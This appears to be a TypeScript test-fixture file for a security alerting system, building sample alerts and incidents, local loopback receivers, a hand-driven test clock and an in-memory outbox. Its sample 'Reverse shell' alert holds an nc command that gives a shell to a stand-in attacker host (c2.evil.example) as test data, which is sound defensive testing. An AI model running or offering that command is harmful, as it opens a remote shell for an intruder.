/** Alerts, receivers that misbehave, an outbox in memory and a clock that tests move by hand. */
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import { type AddressInfo, createServer as createTcp, type Socket, type Server as TcpServer } from 'node:net';
import { PassThrough } from 'node:stream';
import type { Alert, AlertProcess, Incident } from '../../src/alerts/alert.ts';
import type { Clock } from '../../src/sinks/delivery.ts';
import type { Memory, SinkDeps } from '../../src/sinks/deps.ts';
import type { Lease, Outbox } from '../../src/sinks/outbox.ts';
import type { Delivery } from '../../src/sinks/sink.ts';

function aProcess(binary: string, args: string, pid = 7): AlertProcess {
  return { exec_id: `exec-${pid}`, pid, binary, arguments: args, uid: 33, cwd: '/', start_time: null };
}

export function anAlert(over: Partial<Alert> = {}): Alert {
  return {
    id: 'a1',
    time: '2026-01-01T00:00:00.000000000Z',
    rule: {
      id: 'rule-1',
      title: 'Reverse shell',
      level: 'critical',
      tags: ['attack.execution', 'attack.t1059.004'],
      author: 'Spoor',
      description: '',
      runbook: '',
      references: [],
    },
    incident_id: 'i1',
    key: 'k',
    trees: [],
    first_seen: '2026-01-01T00:00:00.000000000Z',
    count: 3,
    last_seen: '2026-01-01T00:01:00.000000000Z',
    confidence: 'high',
    incomplete: false,
    gaps: [],
    cluster: 'prod',
    node: 'worker-1',
    pod: {
      namespace: 'tenant-jobs',
      name: 'crawler-1',
      workload: 'crawler',
      workload_kind: 'Deployment',
      labels: { app: 'crawler' },
    },
    container: { id: 'c', name: 'main', image: 'crawler:1', start_time: null },
    process: aProcess('/usr/bin/nc', '-e /bin/sh 203.0.113.7 4444', 9),
    ancestors: [aProcess('/bin/sh', '-c curl', 8), aProcess('/usr/sbin/nginx', '', 1)],
    flows: [
      {
        time: '2026-01-01T00:00:00.000000000Z',
        attribution: 'socket',
        protocol: 'TCP',
        source: { ip: '10.0.0.1', port: 40000, pod: 'tenant-jobs/crawler-1', names: [], kind: 'pod' },
        destination: { ip: '203.0.113.7', port: 4444, pod: null, names: ['c2.evil.example'], kind: 'world' },
        verdict: 'FORWARDED',
        exec_id: 'exec-9',
      },
    ],
    steps: {},
    evidence: [
      { kind: 'process_exec', time: '2026-01-01T00:00:00.000000000Z', step: 'match', raw: { process_exec: {} } },
    ],
    message: 'nc in tenant-jobs/crawler-1 gave a shell to c2.evil.example',
    ...over,
  };
}

export function anIncident(over: Partial<Incident> = {}): Incident {
  return {
    id: 'i1',
    state: 'open',
    level: 'critical',
    title: 'crawler was taken over',
    first_seen: '2026-01-01T00:00:00.000000000Z',
    last_seen: '2026-01-01T00:01:00.000000000Z',
    alert_count: 1,
    cluster: 'prod',
    pods: ['tenant-jobs/crawler-1'],
    namespace: 'tenant-jobs',
    workload: 'crawler',
    rules: ['Reverse shell'],
    tags: [],
    merged_into: '',
    continues: '',
    ...over,
  };
}

export function aDelivery(over: Partial<Delivery> = {}): Delivery {
  return { id: 'd1', attempt: 1, signal: 'alert', alerts: [anAlert()], incident: anIncident(), ...over };
}

/** Every foreign string of an alert replaced by `text`. */
export function hostileDelivery(text: string): Delivery {
  const alert = anAlert();
  const process = { ...aProcess(text, text), cwd: text, exec_id: text };
  const endpoint = { ip: '203.0.113.7', port: 1, pod: null, names: [text], kind: 'world' as const };
  return aDelivery({
    alerts: [
      {
        ...alert,
        message: text,
        pod: { ...alert.pod!, labels: { [text]: text } },
        container: { id: text, name: text, image: text, start_time: null },
        process,
        ancestors: Array.from({ length: 12 }, () => process),
        flows: Array.from({ length: 12 }, (_, i) => ({ ...alert.flows[0]!, destination: { ...endpoint, port: i } })),
        evidence: [{ ...alert.evidence[0]!, raw: { text } }],
      },
    ],
    incident: anIncident({ title: text }),
  });
}

function volatileMemory(): Memory {
  const entries = new Map<string, string>();
  return {
    get: async key => entries.get(key) ?? null,
    set: async (key, value) => {
      if (value === null) entries.delete(key);
      else entries.set(key, value);
    },
  };
}

export function someDeps(over: Partial<SinkDeps> = {}): SinkDeps {
  return {
    now: () => Date.now(),
    baseUrl: 'https://spoor.example',
    threads: volatileMemory(),
    stdout: new PassThrough(),
    proxyEnv: {},
    ...over,
  };
}

export interface Received {
  readonly path: string;
  readonly headers: Record<string, string>;
  readonly body: string;
}

export interface Receiver {
  readonly url: string;
  readonly received: Received[];
  close(): Promise<void>;
}

const closing = (server: Server | TcpServer, sockets: Set<Socket>) => async (): Promise<void> => {
  for (const socket of sockets) socket.destroy();
  await new Promise(resolve => server.close(resolve));
};

async function listen(server: Server | TcpServer): Promise<{ port: number; close(): Promise<void> }> {
  const sockets = new Set<Socket>();
  server.on('connection', (socket: Socket) => {
    sockets.add(socket);
    socket.on('error', () => {}).on('close', () => sockets.delete(socket));
  });
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve));
  return { port: (server.address() as AddressInfo).port, close: closing(server, sockets) };
}

/** Answers what `answer` does once the whole body is there. */
export async function receiver(answer: (request: Received, response: ServerResponse) => void): Promise<Receiver> {
  const received: Received[] = [];
  const server = createServer((request: IncomingMessage, response) => {
    const chunks: Buffer[] = [];
    request.on('data', chunk => chunks.push(chunk));
    request.on('end', () => {
      const one = {
        path: request.url ?? '',
        headers: request.headers as Record<string, string>,
        body: Buffer.concat(chunks).toString(),
      };
      received.push(one);
      answer(one, response);
    });
  });
  const { port, close } = await listen(server);
  return { url: `http://127.0.0.1:${port}`, received, close };
}

/** Speaks raw bytes: for answers that no HTTP library would give. */
export async function rawReceiver(onRequest: (socket: Socket) => void): Promise<Receiver> {
  const server = createTcp(socket => {
    socket.once('data', () => onRequest(socket));
  });
  const { port, close } = await listen(server);
  return { url: `http://127.0.0.1:${port}`, received: [], close };
}

export class TestClock implements Clock {
  #now = Date.parse('2026-01-01T00:00:00Z');
  readonly #timers = new Set<{ at: number; run: () => void }>();
  now(): number {
    return this.#now;
  }
  after(ms: number, run: () => void): () => void {
    const timer = { at: this.#now + ms, run };
    this.#timers.add(timer);
    return () => this.#timers.delete(timer);
  }
  /** Moves on, running what falls due in order, with everything that follows from it. */
  async advance(ms: number): Promise<void> {
    const end = this.#now + ms;
    await settle();
    while (true) {
      const next = [...this.#timers].filter(t => t.at <= end).sort((a, b) => a.at - b.at)[0];
      if (next === undefined) break;
      this.#timers.delete(next);
      this.#now = Math.max(this.#now, next.at);
      next.run();
      await settle();
    }
    this.#now = end;
  }
}

/** Lets promise chains run dry. */
export async function settle(): Promise<void> {
  for (let i = 0; i < 5; i += 1) await new Promise(resolve => setImmediate(resolve));
}

interface Row {
  readonly lease: Omit<Lease, 'attempts' | 'message'>;
  message: Lease['message'];
  readonly sink: string;
  attempts: number;
  dueAt: number;
  state: 'pending' | 'leased' | 'delivered' | 'dead';
  error: string;
}

export class MemoryOutbox implements Outbox {
  readonly rows: Row[] = [];
  readonly #clock: Pick<Clock, 'now'>;
  /** Makes every call fail while set. */
  broken = false;
  constructor(clock: Pick<Clock, 'now'>) {
    this.#clock = clock;
  }
  add(sink: string, over: Partial<Lease> = {}): Row {
    const id = this.rows.length + 1;
    const lease = {
      id,
      key: `key-${id}`,
      group: '',
      signal: 'alert' as const,
      incident_id: `i${id}`,
      alert: anAlert({ id: `a${id}` }),
      incident: anIncident(),
      ...over,
    };
    const row: Row = { lease, message: null, sink, attempts: 0, dueAt: this.#clock.now(), state: 'pending', error: '' };
    this.rows.push(row);
    return row;
  }
  async lease(sink: string, limit: number, leaseMs: number): Promise<Lease[]> {
    this.#check();
    const now = this.#clock.now();
    const due = this.rows
      .filter(r => r.sink === sink && (r.state === 'pending' || r.state === 'leased') && r.dueAt <= now)
      .slice(0, limit);
    return due.map(row => {
      const lease = { ...row.lease, attempts: row.attempts, message: row.message };
      row.state = 'leased';
      row.dueAt = now + leaseMs;
      return lease;
    });
  }
  async keepMessage(ids: readonly number[], message: Lease['message']): Promise<void> {
    for (const row of this.#of(ids)) row.message = message;
  }
  async delivered(ids: readonly number[]): Promise<void> {
    for (const row of this.#of(ids)) row.state = 'delivered';
  }
  async retry(ids: readonly number[], afterMs: number, error: string): Promise<void> {
    for (const row of this.#of(ids))
      Object.assign(row, { state: 'pending', attempts: row.attempts + 1, dueAt: this.#clock.now() + afterMs, error });
  }
  async release(ids: readonly number[], afterMs: number): Promise<void> {
    for (const row of this.#of(ids)) Object.assign(row, { state: 'pending', dueAt: this.#clock.now() + afterMs });
  }
  async dead(ids: readonly number[], error: string): Promise<void> {
    for (const row of this.#of(ids)) Object.assign(row, { state: 'dead', error });
  }
  async nextDue(sink: string): Promise<number | null> {
    this.#check();
    const due = this.rows
      .filter(r => r.sink === sink && (r.state === 'pending' || r.state === 'leased'))
      .map(r => r.dueAt);
    return due.length === 0 ? null : Math.min(...due);
  }
  #of(ids: readonly number[]): Row[] {
    this.#check();
    return this.rows.filter(({ lease }) => ids.includes(lease.id));
  }
  #check(): void {
    if (this.broken) throw new Error('disk full');
  }
}

/** Every string in a value, keys included. */
export function stringsIn(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (Array.isArray(value)) return value.flatMap(stringsIn);
  return typeof value === 'object' && value !== null
    ? Object.entries(value).flatMap(([key, child]) => [key, ...stringsIn(child)])
    : [];
}

/** What could steer, hide or reorder; the line ends within our own layout aside. */
export const STEERS = /[^\P{Cc}\n]|\p{Cs}|\p{Bidi_Control}|[\u2028\u2029\u200b\ufeff\u00ad\u{e0000}-\u{e007f}]/u;
